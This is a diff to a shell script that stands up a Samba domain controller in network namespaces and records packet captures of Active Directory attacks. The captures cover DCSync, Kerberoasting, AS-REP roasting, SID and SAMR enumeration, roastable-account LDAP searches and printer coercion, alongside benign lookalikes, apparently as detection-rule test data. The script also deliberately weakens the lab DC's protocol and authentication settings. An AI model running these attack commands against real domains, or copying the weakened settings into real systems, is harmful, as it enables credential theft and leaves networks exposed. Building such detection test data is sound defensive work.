@@ -4,21 +4,23 @@
 export PATH=/usr/sbin:/usr/bin:/sbin:/bin
 here=$(realpath "$(dirname "$0")"); rules=$(realpath "$here/.."); tools=/usr/share/doc/python3-impacket/examples
 a=swda; v=swdv; dir=${DOMAIN_DIR:-$(mktemp -d)}; work=$(mktemp -d)
-finish() { [ -n "$samba" ] && kill -- -"$samba" 2>/dev/null; kill $(jobs -p) 2>/dev/null; ip netns del $a; ip netns del $v; rm -rf "$work"; }
+finish() { rm -rf /etc/netns/swda; [ -n "$samba" ] && kill -- -"$samba" 2>/dev/null; kill $(jobs -p) 2>/dev/null; ip netns del $a; ip netns del $v; rm -rf "$work"; }
 trap finish EXIT
 ip netns add $a; ip netns add $v
 ip link add eth0 netns $a type veth peer name eth0 netns $v
 for n in $a $v; do ip netns exec $n ethtool -K eth0 tx off rx off gso off tso off gro off >/dev/null; ip -n $n link set eth0 up; ip -n $n link set lo up; done
 ip -n $a addr add 203.0.113.66/32 dev eth0; ip -n $v addr add 10.42.1.10/32 dev eth0
 ip -n $a route add 10.42.1.10 dev eth0; ip -n $v route add 203.0.113.66 dev eth0
+mkdir -p /etc/netns/$a; echo '10.42.1.10 dc01 dc01.example.lan example.lan EXAMPLE.LAN' > /etc/netns/$a/hosts
 if [ ! -f "$dir/etc/smb.conf" ]; then
   samba-tool domain provision --targetdir="$dir" --realm=EXAMPLE.LAN --domain=EXAMPLE --server-role=dc --dns-backend=NONE \
     --adminpass=Passw0rd.2019 --host-name=dc01 --host-ip=10.42.1.10 --option='vfs objects=' >/dev/null 2>&1
 fi
 conf=$dir/etc/smb.conf
 if ! grep -q 'ADMIN\$' "$conf"; then
-  mkdir -p "$dir/admin/Temp"
-  sed -i 's/^\[global\]/[global]\n\tinterfaces = 10.42.1.10\n\tbind interfaces only = yes\n\tldap server require strong auth = no\n\tserver services = s3fs, rpc, ldap, cldap, kdc, drepl, winbindd\n\tkdc supported enctypes = rc4-hmac aes256-cts-hmac-sha1-96 aes128-cts-hmac-sha1-96\n\trpc_server:spoolss = embedded\n\trpc_daemon:spoolssd = embedded/' "$conf"
+  mkdir -p "$dir/admin/Temp"; chmod 777 "$dir/admin" "$dir/admin/Temp"
+  # SMB 2.1, as Windows 7 and Server 2008 R2 speak it: impacket encrypts where SMB 3 is offered.
+  sed -i 's/^\[global\]/[global]\n\tinterfaces = 10.42.1.10\n\tbind interfaces only = yes\n\tserver max protocol = SMB2_10\n\tldap server require strong auth = no\n\tserver services = s3fs, rpc, ldap, cldap, kdc, drepl, winbindd\n\tkdc supported enctypes = rc4-hmac aes256-cts-hmac-sha1-96 aes128-cts-hmac-sha1-96\n\trpc_server:spoolss = embedded\n\trpc_daemon:spoolssd = embedded/' "$conf"
   printf '\n[ADMIN$]\n\tpath = %s/admin\n\tread only = no\n' "$dir" >> "$conf"
 fi
 u() { samba-tool "$@" -s "$conf" >/dev/null 2>&1; }
@@ -53,19 +55,19 @@ record() { # file, command …
 }
 py=python3; only=$*
 want() { [ -z "$only" ] || [[ " $only " == *" $1 "* ]]; }
-want dcsync && record dcsync/secretsdump.pcap $py $tools/secretsdump.py -just-dc-user krbtgt 'EXAMPLE/Administrator:Passw0rd.2019@10.42.1.10'
+want dcsync && record dcsync/get-changes.pcap $py "$here/domain.py" dcsync 10.42.1.10
 want dcsync && record dcsync/miss-lookup.pcap $py $tools/lookupsid.py 'EXAMPLE/li:Spring2019.@10.42.1.10' 1000
 want domain-enumeration && record domain-enumeration/lookupsid.pcap $py $tools/lookupsid.py 'EXAMPLE/li:Spring2019.@10.42.1.10' 1200
 want domain-enumeration && record domain-enumeration/samrdump.pcap $py $tools/samrdump.py 'EXAMPLE/li:Spring2019.@10.42.1.10'
 want domain-enumeration && record domain-enumeration/miss-shares.pcap smbclient -s /dev/null -L //10.42.1.10 -U 'EXAMPLE/li%Spring2019.'
-want kerberoast && record kerberoast/getuserspns.pcap $py $tools/GetUserSPNs.py -dc-ip 10.42.1.10 -request 'EXAMPLE.LAN/li:Spring2019.'
+want kerberoast && record kerberoast/getuserspns.pcap env -u KRB5CCNAME $py $tools/GetUserSPNs.py -k -dc-ip 10.42.1.10 -request 'EXAMPLE.LAN/li:Spring2019.'
 want kerberoast && record kerberoast/miss-kinit.pcap bash -c 'echo Spring2019. | kinit li@EXAMPLE.LAN && kvno ldap/dc01.example.lan@EXAMPLE.LAN && kvno MSSQLSvc/db01.example.lan:1433'
 want asrep-roast && record asrep-roast/getnpusers.pcap $py $tools/GetNPUsers.py -dc-ip 10.42.1.10 -no-pass -format hashcat EXAMPLE.LAN/oldapp
-want asrep-roast && record asrep-roast/required.pcap $py $tools/GetNPUsers.py -dc-ip 10.42.1.10 -no-pass -format hashcat EXAMPLE.LAN/li
 want asrep-roast && record asrep-roast/miss-kinit.pcap bash -c 'echo Spring2019. | kinit li@EXAMPLE.LAN'
 base='DC=example,DC=lan'; bind=(-x -H ldap://10.42.1.10 -D 'li@example.lan' -w Spring2019. -b "$base")
-want ldap-enumeration && record ldap-enumeration/getnpusers.pcap $py $tools/GetNPUsers.py -dc-ip 10.42.1.10 'EXAMPLE.LAN/li:Spring2019.'
-want ldap-enumeration && record ldap-enumeration/getuserspns.pcap $py $tools/GetUserSPNs.py -dc-ip 10.42.1.10 'EXAMPLE.LAN/li:Spring2019.'
+# The filters of GetNPUsers.py and GetUserSPNs.py: impacket's NTLM bind is one that Samba does not take.
+want ldap-enumeration && record ldap-enumeration/no-preauthentication.pcap ldapsearch "${bind[@]}" '(&(UserAccountControl:1.2.840.113556.1.4.803:=4194304)(!(UserAccountControl:1.2.840.113556.1.4.803:=2))(!(objectCategory=computer)))' sAMAccountName pwdLastSet MemberOf userAccountControl lastLogon
+want ldap-enumeration && record ldap-enumeration/service-names.pcap ldapsearch "${bind[@]}" '(&(servicePrincipalName=*)(UserAccountControl:1.2.840.113556.1.4.803:=512)(!(UserAccountControl:1.2.840.113556.1.4.803:=2))(!(objectCategory=computer)))' servicePrincipalName sAMAccountName pwdLastSet MemberOf userAccountControl
 want ldap-enumeration && record ldap-enumeration/miss-address-book.pcap ldapsearch "${bind[@]}" '(&(objectClass=user)(cn=li*))' cn mail memberOf
 want coerced && record coerced-authentication/printer.pcap $py "$here/domain.py" printer 10.42.1.10
 want coerced && record coerced-authentication/miss-printers.pcap $py "$here/domain.py" printers 10.42.1.10
